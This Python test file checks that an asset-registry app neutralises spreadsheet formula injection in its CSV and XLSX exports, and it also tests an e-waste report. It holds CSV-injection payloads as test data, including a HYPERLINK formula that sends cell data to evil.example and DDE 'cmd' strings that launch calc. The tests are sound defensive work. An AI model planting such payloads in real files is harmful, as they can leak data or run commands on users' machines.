"""Exports: safe cells, the asset register, the e-waste report."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from django.core.management import call_command
from openpyxl.utils.escape import unescape

from registry import selectors
from registry.lifecycle import METALS
from registry.models import Asset
from reporting.exports import assets, cells, ewaste
from tests import factories as f
from tests.factories import SANITISE, record

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- cells ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralises_every_formula_trigger(text):
    assert cells.csv_value(text) == "'" + text


def test_csv_values_blank_numbers_and_dates():
    assert cells.csv_value(None) == ""
    assert cells.csv_value(Decimal("0")) == "0"
    assert cells.csv_value(Decimal("1E+3")) == "1000"
    assert cells.csv_value(-5) == "-5"  # a number is never prefixed
    assert cells.csv_value(dt.date(2025, 3, 1)) == "2025-03-01"
    when = dt.datetime(2025, 3, 1, 10, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    assert cells.csv_value(when) == "2025-03-01T08:00:00"
    assert cells.csv_value("plain") == "plain"


def test_xlsx_cells_are_typed_and_never_formulas(tmp_path):
    path = tmp_path / "cells.xlsx"
    book = cells.new_workbook(str(path))
    formats = cells.Formats(book)
    ws = book.add_worksheet("T")
    table = cells.Table(
        [
            cells.Column("text"),
            cells.Column("n", cells.NUMBER, "0.00"),
            cells.Column("d", cells.DATE),
        ],
        [[h, Decimal("1.25"), dt.date(2025, 1, 2)] for h in HOSTILE] + [[None, None, None]],
    )
    cells.write_table(ws, formats, table)
    # even a generic write() of hostile text stays a string in this workbook
    ws.write(20, 0, "=1+1")
    book.close()
    sheet = openpyxl.load_workbook(path).active
    for row, text in enumerate(HOSTILE, start=2):
        assert sheet.cell(row, 1).data_type == "s"
        assert unescape(sheet.cell(row, 1).value) == text
        assert sheet.cell(row, 2).value == 1.25
        assert sheet.cell(row, 3).value == dt.datetime(2025, 1, 2)
        assert sheet.cell(row, 3).is_date
    blank = len(HOSTILE) + 2
    assert [sheet.cell(blank, c).value for c in (1, 2, 3)] == [None, None, None]
    assert sheet.cell(21, 1).data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# --- the asset register ----------------------------------------------------------------------


@pytest.fixture
def fleet(db):
    par, fra = f.site("PAR1"), f.site("FRA1", country="DE", time_zone="Europe/Berlin")
    hostile_model = f.hardware_model(
        "evil", name="=cmd|' /C calc'!A0", mass_kg=None, embodied_gwp_kgco2e=None
    )
    items = [
        f.asset('=HYPERLINK("http://x")', at_site=par, notes="+1+1", owner="@owner"),
        f.asset("-SUM(A1)", at_site=par, notes="\t=2", measured_mass_kg=Decimal("12.345")),
        f.asset("\rCR-1", at_site=fra, model=hostile_model),
        f.asset("PLAIN-1", at_site=fra, warranty_end=dt.date(2027, 5, 31)),
    ]
    record(items[3], "commissioned", 1, workload="training")
    return {"par": par, "fra": fra, "assets": items}


def _xlsx_rows(path):
    sheet = openpyxl.load_workbook(path).active
    return sheet, list(sheet.iter_rows(values_only=False))


def _text(cell):
    # XlsxWriter stores a carriage return as the OOXML escape _x000D_, which Excel decodes and
    # openpyxl does not: decode it the way Excel does.
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def test_asset_export_xlsx_round_trip_and_injection(fleet, tmp_path):
    path = tmp_path / "assets.xlsx"
    assert assets.write_xlsx(Asset.objects.all(), str(path)) == 4
    sheet, rows = _xlsx_rows(path)
    assert [c.value for c in rows[0]] == assets.HEADERS
    col = {h: i for i, h in enumerate(assets.HEADERS)}
    by_tag = {_text(r[col["Asset tag"]]): r for r in rows[1:]}
    assert set(by_tag) == {a.asset_tag for a in fleet["assets"]}
    for row in rows:
        assert all(c.data_type != "f" for c in row)
    for asset in Asset.objects.select_related("hardware_model", "site"):
        row = by_tag[asset.asset_tag]
        assert row[col["Model"]].value == asset.hardware_model.name
        assert row[col["Site"]].value == asset.site.code
        assert row[col["State"]].value == asset.state
        assert row[col["Notes"]].value == (asset.notes or None)
        mass = asset.mass_kg
        assert row[col["Mass [kg]"]].value == (None if mass is None else float(mass))
        gwp = asset.hardware_model.embodied_gwp_kgco2e
        cell = row[col["Embodied GWP [kgCO2e]"]]
        assert cell.value == (None if gwp is None else float(gwp))  # blank, never 0
        assert row[col["Purchase date"]].is_date
        expected = asset.purchase_date and dt.datetime.combine(asset.purchase_date, dt.time())
        assert row[col["Purchase date"]].value == expected
        assert row[col["Registered at (UTC)"]].is_date
    assert by_tag["-SUM(A1)"][col["Mass source (measured/catalogue)"]].value == "measured"
    assert by_tag["\rCR-1"][col["Mass [kg]"]].value is None
    assert by_tag["PLAIN-1"][col["Warranty end"]].value == dt.datetime(2027, 5, 31)


def test_asset_export_csv_neutralised_and_pandas_round_trip(fleet, tmp_path):
    path = tmp_path / "assets.csv"
    assert assets.write_csv(Asset.objects.all(), str(path)) == 4
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == assets.HEADERS
    for row in rows[1:]:
        for value in row:
            assert not value or value[0] not in cells.FORMULA_TRIGGERS, value
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    tags = set(frame["Asset tag"])
    assert '\'=HYPERLINK("http://x")' in tags and "'\rCR-1" in tags
    heavy = frame[frame["Asset tag"] == "'-SUM(A1)"].iloc[0]
    assert Decimal(heavy["Mass [kg]"]) == Decimal("12.345")
    assert heavy["Notes"] == "'\t=2"
    evil = frame[frame["Asset tag"] == "'\rCR-1"].iloc[0]
    assert evil["Mass [kg]"] == "" and evil["Model"] == "'=cmd|' /C calc'!A0"


def test_asset_export_uses_the_api_filters_and_one_query(fleet, django_assert_num_queries):
    qs = assets.filtered_assets({"site": "PAR1"})
    with django_assert_num_queries(1):
        rows = list(assets.export_rows(qs))
    assert len(rows) == 2
    in_service = assets.filtered_assets({"state": ["in-service"]})
    assert [r[0] for r in assets.export_rows(in_service)] == ["PLAIN-1"]
    with pytest.raises(ValueError):
        assets.filtered_assets({"state": ["melted"]})


def test_export_assets_command(fleet, tmp_path):
    out = tmp_path / "fra.xlsx"
    buf = io.StringIO()
    call_command("export_assets", "--out", str(out), "--site", "FRA1", stdout=buf)
    assert "2 assets" in buf.getvalue()
    frame = pd.read_excel(out)
    assert sorted(map(unescape, frame["Asset tag"])) == sorted(["\rCR-1", "PLAIN-1"])
    out_csv = tmp_path / "svc.csv"
    call_command("export_assets", "--out", str(out_csv), "--state", "in-service", stdout=buf)
    assert len(out_csv.read_text().splitlines()) == 2


def test_export_assets_response_streams_csv_and_xlsx(fleet):
    response = assets.export_assets_response(Asset.objects.filter(site__code="PAR1"), fmt="csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert len(body.strip().splitlines()) == 3
    response = assets.export_assets_response(Asset.objects.all())
    data = b"".join(response.streaming_content)
    assert len(openpyxl.load_workbook(io.BytesIO(data)).active["A"]) == 5


# --- the e-waste report --------------------------------------------------------------------------


@pytest.fixture
def circular(db):
    """A 2024 year at PAR1: reuse, resale, certified and uncertified recycling, sanitisation."""
    par = f.site("PAR1")
    gpu = f.asset("GPU-1", at_site=par)
    record(gpu, "commissioned", 1, workload="training")
    record(gpu, "redeployed", 100, to_workload="inference", note="7B model")
    record(gpu, "decommissioned", 200, reason="eol")
    record(gpu, "sent-to-recycler", 201, recycler="R", certification="r2v3", consignment_ref="C")
    record(
        gpu,
        "recycled",
        210,
        certificate_ref="=COR-7",
        weee_category="6",
        weighed_mass_kg="1.5",
        recovered_g={"au": "0.25"},
    )
    other = f.asset("GPU-2", at_site=par)
    record(other, "sent-to-recycler", 20, recycler="Q", certification="none", consignment_ref="D")
    record(other, "recycled", 30, certificate_ref="X-1", weee_category="4", weighed_mass_kg="30")
    sold = f.asset("GPU-3", at_site=par)
    record(sold, "sold", 50, counterparty="Broker", price="10", currency="EUR")
    drive = f.asset("SSD-1", at_site=par, model=f.hardware_model_by_slug("generic-ssd-960gb"))
    record(drive, "sanitised", 40, **SANITISE)
    record(drive, "donated", 41, counterparty="School")
    f.site("FRA1", country="DE", time_zone="Europe/Berlin")
    return par


def _blocks(sheet) -> dict[str, list[list]]:
    """Tables of an I_EWaste-style sheet, by title: header row then data rows."""
    blocks, current = {}, None
    for row in sheet.iter_rows(values_only=True):
        if all(v is None for v in row):
            current = None
            continue
        if current is None:
            current = blocks.setdefault(row[0], [])
            continue
        current.append(list(row))
    return blocks


def test_ewaste_workbook_matches_the_selectors(circular, tmp_path):
    path = tmp_path / "ewaste.xlsx"
    ewaste.write_workbook(None, 2024, str(path))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == list(ewaste.SHEETS)
    for ws in book.worksheets:
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    routes = list(book["Routes"].iter_rows(values_only=True))
    header, rows = routes[0], routes[1:]
    col = {h: i for i, h in enumerate(header)}
    period = selectors.Period.year(2024)
    for scope, codes in (("PAR1", ["PAR1"]), ("FRA1", ["FRA1"]), ("ALL", ["FRA1", "PAR1"])):
        fig = selectors.circular_figures(codes, period)
        mine = {r[col["WEEE cat"]]: r for r in rows if r[col["Site"]] == scope}
        assert set(mine) >= {"4", "6"}
        for weee, row in mine.items():
            total_units = 0
            for route, label in ewaste.ROUTE_LABELS.items():
                entry = fig["routes"][route].get(weee)
                assert row[col[f"{label} [units]"]] == (entry["units"] if entry else 0)
                cell = row[col[f"{label} [t]"]]
                expected_t = entry["mass_t"] if entry else 0
                assert (cell is None and expected_t is None) or Decimal(str(cell)) == expected_t
                total_units += entry["units"] if entry else 0
            assert row[col["Units (all routes)"]] == total_units
            ede = fig["ede"]["value"]
            assert row[col["EDE (site, all categories, known masses only)"]] == (
                None if ede is None else float(ede)
            )
    par6 = next(r for r in rows if r[col["Site"]] == "PAR1" and r[col["WEEE cat"]] == "6")
    par4 = next(r for r in rows if r[col["Site"]] == "PAR1" and r[col["WEEE cat"]] == "4")
    assert par6[col["of which via certified recycler [t]"]] == 0.0015
    assert par4[col["of which via certified recycler [t]"]] == 0  # uncertified: a real zero
    assert par4[col["Recycled (all recyclers) [t]"]] == 0.03
    assert par6[col["Certificates"]] == "=COR-7, X-1"
    # Pinned by hand from the fixture, not from the selectors: cat. 6 — GPU-1 redeployed and
    # recycled, GPU-3 sold, SSD-1 donated; cat. 4 — GPU-2 recycled under a cat. 4 certificate.
    assert par6[col["Reused internally [units]"]] == 1
    assert par6[col["Resold or donated [units]"]] == 2
    assert par6[col["Recycled (all recyclers) [units]"]] == 1
    assert par4[col["Recycled (all recyclers) [units]"]] == 1
    assert par4[col["Reused internally [units]"]] == 0
    fra = next(r for r in rows if r[col["Site"]] == "FRA1")
    assert (
        fra[col["EDE (site, all categories, known masses only)"]] is None
    )  # nothing disposed: blank, not 0

    metals = list(book["Metals"].iter_rows(values_only=True))
    mcol = {h: i for i, h in enumerate(metals[0])}
    fig = selectors.circular_figures(["PAR1"], period)
    par_metals = {r[2]: r for r in metals[1:] if r[0] == "PAR1"}
    assert set(par_metals) == set(METALS)

    def number(value):
        return None if value is None else float(value)

    for metal, row in par_metals.items():
        m = fig["recovered_metals_g"][metal]
        assert row[mcol["Reported by certificates [g]"]] == number(m["reported_g"])
        for header, key in (
            ("Expected recoverable [g]", "expected_recoverable_g"),
            ("Expected recoverable min [g]", "expected_recoverable_min_g"),
            ("Expected recoverable max [g]", "expected_recoverable_max_g"),
        ):
            assert row[mcol[header]] == number(m[key])
        assert row[mcol["Yield basis"]] == m["yield_basis"]
    sanit = list(book["Sanitisation"].iter_rows(values_only=True))[1:]
    assert [(r[0], r[2], r[3], r[5]) for r in sanit if r[0] == "PAR1"] == [
        ("PAR1", s["method"], s["standard"], s["count"])
        for s in selectors.sanitisation_counts(["PAR1"], period)
    ]
    certs = {r[2] for r in book["Certificates"].iter_rows(values_only=True) if r[0] == "PAR1"}
    assert certs == set(fig["certificates"])


def test_ewaste_sheet_blocks_and_command(circular, tmp_path):
    path = tmp_path / "i.xlsx"
    book = cells.new_workbook(str(path))
    ewaste.write_sheet(book, cells.Formats(book), ewaste.report_data(["PAR1"], 2024))
    book.close()
    blocks = _blocks(openpyxl.load_workbook(path)["I_EWaste"])
    assert len(blocks) == 5
    assert all(title for title in blocks)
    out = tmp_path / "cmd.xlsx"
    call_command(
        "export_ewaste", "--year", "2024", "--site", "PAR1", "--out", str(out), stdout=io.StringIO()
    )
    assert openpyxl.load_workbook(out).sheetnames == list(ewaste.SHEETS)


def test_bare_xlsxwriter_is_what_the_benchmark_compares_with(tmp_path):
    # Guard for the benchmark's baseline: constant_memory keeps rows in order.
    book = xlsxwriter.Workbook(str(tmp_path / "b.xlsx"), {"constant_memory": True})
    ws = book.add_worksheet()
    ws.write_string(0, 0, "a")
    ws.write_number(1, 0, 1)
    book.close()
    assert openpyxl.load_workbook(tmp_path / "b.xlsx").active["A2"].value == 1
